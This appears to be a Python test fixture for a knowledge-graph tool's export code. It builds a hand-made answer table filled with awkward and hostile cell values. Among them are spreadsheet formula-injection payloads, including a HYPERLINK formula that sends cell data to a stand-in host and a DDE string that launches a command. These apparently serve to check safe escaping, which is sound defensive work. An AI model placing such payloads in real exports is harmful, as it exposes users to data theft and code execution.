"""Answers made by hand, to hold what no graph of ours should hold."""

from __future__ import annotations

import datetime
from collections.abc import Mapping, Sequence

from pyoxigraph import Literal, NamedNode

from kg.core.names import LANGUAGES, name
from kg.engine import Term
from kg.graph.evidence import Place
from kg.graph.labels import Label
from kg.output.export import Notes
from kg.questions.catalogue import CannedQuestion, Column, Option, Parameter, Texts
from kg.questions.result import QuestionResult, Row

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=1+1",
    'a "quoted" word, and a comma; and a semicolon',
    "a tab\tand a \\t that is none",
    "two\nlines",
    "two\r\nlines",
    "two\rlines",
    " spaces at both ends ",
    "_x0041_ as Excel escapes A",
    "“十四五”软件和信息技术服务业发展规划，工业互联网",
    "𠮷野家 🐉",
    "https://example.org/looks/like/a/link",
    "internal:Sheet2!A1",
    "{braces} and %s",
    "007",
    "1E5",
    "TRUE",
    "2021-11-15",
    "nan",
)

SCOPE = Parameter(
    name="scope",
    labels={"en": "Counted", "de": "Gezählt", "zh": "统计"},
    type="string",
    multiple=True,
    required=False,
    default=(),
    fixed_options=(Option(Literal("own"), {"en": "Own words", "de": "Eigene Worte", "zh": "原文"}),),
    options_query=None,
    member_of=None,
)


def number(text: str, kind: str = "decimal") -> Literal:
    return Literal(text, datatype=name(f"xsd:{kind}"))


def same(text: str) -> Texts:
    return dict.fromkeys(LANGUAGES, text)


def answered(
    columns: Mapping[str, str],
    rows: Sequence[Sequence[Term | None]],
    *,
    language: str = "en",
    labels: Mapping[NamedNode, str] | None = None,
    places: Sequence[Place] = (),
    parameters: Sequence[Parameter] = (),
) -> QuestionResult:
    """An answer with columns of these kinds."""
    made = tuple(Column(key, same(key.capitalize()), kind) for key, kind in columns.items())
    remaining: tuple[Row, ...] = tuple(tuple(row) for row in rows)
    return QuestionResult(
        question=CannedQuestion(
            slug="made",
            title=same("Made by hand"),
            question=same("What was made by hand?"),
            description=same("Cells that were made by hand."),
            limits=same("Anything else."),
            parameters=tuple(parameters),
            columns=made,
            tests=(),
            text="SELECT * {}",
            subject="quality",
        ),
        values={},
        chosen={parameter.name: () for parameter in parameters},
        text="SELECT * {}",
        release_id="0123456789abcdef",
        language=language,
        columns=made,
        rows=remaining,
        labels={iri: {"en": Label(text, "en")} for iri, text in (labels or {}).items()},
        places={place.iri: place for place in places},
        parents={},
        pinyin={},
        total=len(remaining),
        only={},
    )


HOSTILE_ANSWER = answered({"text": "text", "again": "text"}, [(Literal(text), Literal("x")) for text in HOSTILE])

NOTES = Notes(
    title="Made by hand",
    address="http://localhost/q/made",
    citation="Somebody: Made by hand.",
    release_id="0123456789abcdef",
    built_on=datetime.date(2026, 11, 25),
    parameters=(),
    narrowed=(),
)
